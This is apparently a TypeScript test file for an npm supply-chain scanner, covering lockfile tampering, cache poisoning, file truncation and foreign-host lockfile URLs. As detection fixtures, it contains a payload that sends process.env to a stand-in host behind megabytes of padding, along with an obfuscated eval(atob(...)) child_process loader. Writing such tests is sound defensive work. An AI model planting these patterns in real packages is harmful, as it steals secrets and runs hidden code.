import assert from "node:assert/strict";
import { randomBytes } from "node:crypto";
import { writeFileSync } from "node:fs";
import { createServer } from "node:net";
import { join } from "node:path";
import { test } from "node:test";
import { collectPackuments } from "../src/metadata/collect.js";
import type { Finding, LockedPackage } from "../src/model.js";
import { ANALYZER_VERSION, analyzeTarball } from "../src/tarball/analyze.js";
import { createTarballCache, sha512Hex } from "../src/tarball/cache.js";
import { extractTarball } from "../src/tarball/extract.js";
import type { FetchLike } from "../src/tarball/fetch.js";
import { scanTarballs } from "../src/tarball/scan.js";
import { sriOf, startTestRegistry } from "./registry-server.js";
import { buildTarball } from "./tarball-fixture.js";
import { tempDir } from "./temp-dir.js";

function locked(name: string, version: string, integrity: string, resolved?: string): LockedPackage {
  return {
    name,
    version,
    source: "registry",
    integrity,
    ...(resolved ? { resolved } : {}),
    location: { file: "package-lock.json", line: 5 },
  };
}

const summary = (findings: readonly Finding[]) => findings.map((f) => `${f.checkId} ${f.severity} ${f.packageName}`).sort();

const tarballOf = (name: string, version: string, code = "module.exports = 1;\n") =>
  buildTarball({ "package.json": JSON.stringify({ name, version }), "index.js": code });

test("a tarball naming another package is reported on every run, cold cache or warm", async () => {
  const other = await tarballOf("bar", "9.9.9");
  // The registry serves bar's tarball as foo@1.0.0, and the lockfile pins exactly those bytes.
  const registry = await startTestRegistry([], { "/foo/-/foo-1.0.0.tgz": other });
  try {
    const cache = createTarballCache(join(tempDir(), "cache"));
    const pkg = locked("foo", "1.0.0", sriOf(other));
    const cold = await scanTarballs([pkg], { registry: registry.url, cache });
    const warm = await scanTarballs([pkg], { registry: registry.url, cache });
    assert.deepEqual(summary(cold.findings), ["lockfile-tampering high foo"]);
    assert.deepEqual(summary(warm.findings), summary(cold.findings));
    assert.equal(registry.requests.length, 1, "the second run was served from the cache");
  } finally {
    await registry.close();
  }
});

test("an analysis cached for one package is checked against the next package that pins the same bytes", async () => {
  const bar = await tarballOf("bar", "9.9.9");
  const registry = await startTestRegistry([
    { name: "bar", version: "9.9.9", tarball: bar, publishedAt: new Date() },
    { name: "foo", version: "1.0.0", tarball: await tarballOf("foo", "1.0.0"), publishedAt: new Date() },
  ]);
  try {
    const cache = createTarballCache(join(tempDir(), "cache"));
    // Project 1 legitimately depends on bar@9.9.9 and fills the cache.
    const first = await scanTarballs([locked("bar", "9.9.9", sriOf(bar))], { registry: registry.url, cache });
    assert.deepEqual(first.findings, []);
    // Project 2's lockfile claims foo@1.0.0 but pins bar's integrity: the cached analysis must not hide that.
    const swapped = await scanTarballs([locked("foo", "1.0.0", sriOf(bar))], { registry: registry.url, cache });
    assert.deepEqual(summary(swapped.findings), ["lockfile-tampering high foo"]);
    assert.match(swapped.findings[0]?.message ?? "", /says bar@9\.9\.9, not foo@1\.0\.0/);
  } finally {
    await registry.close();
  }
});

test("a cached analysis is trusted only for the integrity it was made from", async () => {
  const foo = await tarballOf("foo", "1.0.0");
  const registry = await startTestRegistry([{ name: "foo", version: "1.0.0", tarball: foo, publishedAt: new Date() }]);
  try {
    const cache = createTarballCache(join(tempDir(), "cache"));
    // An entry filed under foo's hash but recorded as made from other bytes (a poisoned or stale cache).
    const forged = { ...analyzeTarball(await extractTarball(foo)), manifestName: "forged" };
    cache.putJson("analysis", `sha512:${sha512Hex(sriOf(foo))}#${ANALYZER_VERSION}`, {
      integrity: `sha512-${"B".repeat(86)}==`,
      analysis: forged,
    });
    const scan = await scanTarballs([locked("foo", "1.0.0", sriOf(foo))], { registry: registry.url, cache });
    assert.deepEqual(scan.findings, []);
    assert.equal(scan.analyses.get("foo@1.0.0")?.manifestName, "foo");
    assert.deepEqual(registry.requests, ["/foo/-/foo-1.0.0.tgz"]);
  } finally {
    await registry.close();
  }
});

test("a cache dir that cannot be written costs no analysis and is reported once", async () => {
  const foo = await tarballOf("foo", "1.0.0");
  const baz = await tarballOf("baz", "2.0.0");
  const registry = await startTestRegistry([
    { name: "foo", version: "1.0.0", tarball: foo, publishedAt: new Date() },
    { name: "baz", version: "2.0.0", tarball: baz, publishedAt: new Date() },
  ]);
  try {
    const notADir = join(tempDir(), "cache-is-a-file");
    writeFileSync(notADir, "x");
    const cache = createTarballCache(notADir);
    const packages = [locked("foo", "1.0.0", sriOf(foo)), locked("baz", "2.0.0", sriOf(baz))];
    const scan = await scanTarballs(packages, { registry: registry.url, cache });
    assert.deepEqual(scan.findings, []);
    assert.equal(scan.analyses.size, 2, "both were analyzed although nothing could be cached");
    assert.equal(scan.notices.length, 1, scan.notices.join("\n"));
    assert.match(scan.notices[0] ?? "", /cannot be written \(ENOTDIR\).*--cache-dir/);
    const meta = await collectPackuments(packages, { registry: registry.url, cache, now: Date.now });
    assert.deepEqual(meta.findings, []);
    assert.equal(meta.packuments.size, 2);
    assert.deepEqual(meta.notices, scan.notices, "worded alike, so the run shows it once");
  } finally {
    await registry.close();
  }
});

test("padding a file past the head does not hide the payload appended after it", async () => {
  const evil = `const https = require("https");\nhttps.request({ host: "x.example", method: "POST" }).end(JSON.stringify(process.env));\n`;
  const pad = "// generated table row, nothing to see here\n".repeat(50_000); // ~2.2 MB
  const padded = await buildTarball({ "package.json": JSON.stringify({ name: "foo", version: "1.0.1" }), "index.js": pad + evil });
  const analysis = analyzeTarball(await extractTarball(padded));
  assert.ok(analysis.verdict, "the tail was analyzed");
  assert.ok(["high", "critical"].includes(analysis.verdict.severity), analysis.verdict.severity);
  assert.deepEqual(analysis.partlyAnalyzed, [], "2.2 MB fits in head + tail: the whole file was read");
});

test("a code file whose middle was not read is a finding, from the cache too", async () => {
  const row = "// generated table row, nothing to see here\n";
  // The payload sits past the 2 MB head and before the last 1 MB: the one place left unread.
  const bytes = await buildTarball({
    "package.json": JSON.stringify({ name: "big", version: "1.0.0" }),
    "index.js": `${row.repeat(50_000)}eval(atob("cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWNTeW5jKCdpZCcp"));\n${row.repeat(30_000)}`,
    "data.json": JSON.stringify({ rows: row.repeat(90_000) }), // data is not analyzed as code: no finding for it
  });
  const registry = await startTestRegistry([{ name: "big", version: "1.0.0", tarball: bytes, publishedAt: new Date() }]);
  try {
    const cache = createTarballCache(join(tempDir(), "cache"));
    const pkg = locked("big", "1.0.0", sriOf(bytes));
    for (const run of ["cold", "warm"]) {
      const scan = await scanTarballs([pkg], { registry: registry.url, cache });
      assert.deepEqual(summary(scan.findings), ["tarball-partly-analyzed medium big"], run);
      assert.match(scan.findings[0]?.message ?? "", /1 code file\(s\) over 3 MB .*\(index\.js\)/);
      assert.equal(scan.analyses.get("big@1.0.0")?.verdict, undefined, "the payload was not seen: the finding is what tells");
    }
  } finally {
    await registry.close();
  }
});

test("extraction keeps head and tail of a huge file, never all of it", async () => {
  // Incompressible filler: tar refuses archives that inflate over 1000×.
  const filler = randomBytes(6 * 1024 * 1024).toString("base64");
  const bytes = await buildTarball({ "package.json": "{}", "big.js": `HEAD${filler}TAIL` });
  const extracted = await extractTarball(bytes);
  const big = extracted.files.find((f) => f.path === "big.js");
  assert.ok(big?.truncated);
  assert.equal(big.text.length, 2 * 1024 * 1024);
  assert.ok(big.text.startsWith("HEAD"));
  assert.equal(big.tail?.length, 1024 * 1024);
  assert.ok(big.tail?.endsWith("TAIL"));
});

test("a lockfile URL on a host that is neither a registry nor allowed is never contacted", async () => {
  let connections = 0;
  const foreign = createServer((socket) => {
    connections++;
    socket.destroy();
  });
  await new Promise<void>((resolve) => foreign.listen(0, "127.0.0.1", resolve));
  const port = (foreign.address() as { port: number }).port;
  const lodash = await tarballOf("lodash", "4.17.21");
  const registry = await startTestRegistry([{ name: "lodash", version: "4.17.21", tarball: lodash, publishedAt: new Date() }]);
  try {
    const resolved = `https://127.0.0.1:${port}/lodash/-/lodash-4.17.21.tgz?exfil=ci-runner`;
    const scan = await scanTarballs([locked("lodash", "4.17.21", sriOf(lodash), resolved)], {
      registry: registry.url,
      cache: createTarballCache(join(tempDir(), "cache")),
    });
    assert.equal(connections, 0, "the lockfile's host saw no connection");
    assert.deepEqual(registry.requests, ["/lodash/-/lodash-4.17.21.tgz"]);
    assert.deepEqual(scan.findings, [], "the registry's bytes match the lockfile");
    assert.ok(scan.analyses.has("lodash@4.17.21"));
  } finally {
    foreign.close();
    await registry.close();
  }
});

test("a lockfile URL on an allowed host is fetched from that host", async () => {
  const lodash = await tarballOf("lodash", "4.17.21");
  const registry = await startTestRegistry([{ name: "lodash", version: "4.17.21", tarball: lodash, publishedAt: new Date() }]);
  const asked: string[] = [];
  // The mirror's https URL is served by the test registry: the point is which URL is asked for.
  const viaMirror: FetchLike = (url, init) => {
    asked.push(url);
    return fetch(url.replace("https://mirror.example.test/", registry.url), init);
  };
  try {
    const resolved = "https://mirror.example.test/lodash/-/lodash-4.17.21.tgz";
    const scan = await scanTarballs([locked("lodash", "4.17.21", sriOf(lodash), resolved)], {
      registry: "https://registry.example.test/",
      allowedHosts: ["mirror.example.test"],
      cache: createTarballCache(join(tempDir(), "cache")),
      fetch: viaMirror,
    });
    assert.deepEqual(asked, [resolved]);
    assert.deepEqual(scan.findings, []);
  } finally {
    await registry.close();
  }
});
